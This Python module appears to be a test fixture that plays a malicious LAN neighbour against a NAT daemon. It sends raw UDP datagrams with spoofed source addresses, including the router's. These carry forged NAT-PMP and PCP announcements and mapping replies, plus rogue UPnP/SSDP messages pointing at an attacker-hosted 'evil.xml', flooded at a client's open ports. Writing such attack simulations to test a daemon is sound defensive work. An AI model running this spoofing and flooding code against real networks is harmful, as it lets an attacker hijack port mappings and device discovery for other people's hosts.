"""A neighbour that forges: datagrams with any source, and what they say to harm natd."""

import contextlib
import random
import socket
import struct
import threading

ATTACKER, GATEWAY, CLIENT = "192.168.1.66", "192.168.1.1", "192.168.1.20"
EVIL = "6.6.6.6"
ANNOUNCE = struct.pack("!BBHI", 0, 128, 0, 1) + socket.inet_aton(EVIL)
PCP_ANNOUNCE = struct.pack("!BBBBII12x", 2, 0x80, 0, 0, 0, 1)


def nat_pmp_answer(internal, external, lease=7200, code=0, epoch=1):
    """For UDP."""
    return struct.pack("!BBHIHHI", 0, 129, code, epoch, internal, external, lease)


def pcp_answer(nonce, internal, external, lease=7200, code=0, epoch=1, address=EVIL):
    """For UDP."""
    return struct.pack("!BBBBII12x", 2, 0x81, 0, code, lease, epoch) + nonce + struct.pack(
        "!B3xHH", 17, internal, external) + b"\0" * 10 + b"\xff\xff" + socket.inet_aton(address)


NAT_PMP_MAP, PCP_MAP = nat_pmp_answer(40000, 6666), pcp_answer(bytes(12), 40000, 6666)


class Forger:
    """Sends datagrams with any source address and port from the attacker's node."""

    def __init__(self, node):
        with node.inside():
            self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            self.raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF,
                                socket.inet_aton(ATTACKER))

    def send(self, data, source, target):
        udp = struct.pack("!HHHH", source[1], target[1], 8 + len(data), 0) + data
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                         socket.inet_aton(source[0]), socket.inet_aton(target[0]))
        with contextlib.suppress(OSError):  # the queue is full: so much the better
            self.raw.sendto(ip + udp, (target[0], 0))


def alive(boot, host=ATTACKER, kind="ssdp:alive"):
    return (f"NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNTS: {kind}\r\n"
            "NT: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n"
            f"USN: uuid:{boot}::x\r\nLOCATION: http://{host}:8080/evil.xml\r\n"
            f"BOOTID.UPNP.ORG: {boot}\r\nCACHE-CONTROL: max-age=100\r\n\r\n").encode()


@contextlib.contextmanager
def flood(node, packets):
    """Send (data, source, target) in turn, as fast as one thread can, during the block."""
    stop, sent = threading.Event(), [0]

    def loop():
        forger = Forger(node)
        while not stop.is_set():
            for packet in packets():
                forger.send(*packet)
                sent[0] += 1
    thread = threading.Thread(target=loop)
    thread.start()
    try:
        yield sent
    finally:
        stop.set()
        thread.join()


def open_ports(node):
    """The ports of UDP that are open in a node."""
    with node.inside(), open("/proc/thread-self/net/udp") as f:
        return [int(line.split()[1].split(":")[1], 16) for line in list(f)[1:]]


def forged(node=None):
    """One batch of everything, some of it as from the router itself.  A neighbour who sees what a node
    sends aims well."""
    chance = random.Random(7)
    for n in range(200):
        if node and n % 20 == 0:
            open_here = open_ports(node)
        port = chance.randrange(1024, 65536)
        for source in ((ATTACKER, 5351), (GATEWAY, 5351)):
            for data in (ANNOUNCE, NAT_PMP_MAP, PCP_ANNOUNCE, PCP_MAP):
                yield data, source, (CLIENT, port)
        yield alive(chance.randrange(2**31)), (ATTACKER, 1900), ("239.255.255.250", 1900)
        yield alive(1, kind="ssdp:byebye"), (ATTACKER, 1900), ("239.255.255.250", 1900)
        yield ANNOUNCE, (ATTACKER, 5351), ("224.0.0.1", 5350)
        yield PCP_ANNOUNCE, (ATTACKER, 5351), ("224.0.0.1", 5350)
        answer = alive(5).replace(b"NOTIFY * HTTP/1.1", b"HTTP/1.1 200 OK").replace(b"NT:", b"ST:")
        for port in [port, *(open_here if node else [])]:
            yield answer, (ATTACKER, 1900), (CLIENT, port)
            for data in (NAT_PMP_MAP, PCP_MAP):
                yield data, (GATEWAY, 5351), (CLIENT, port)
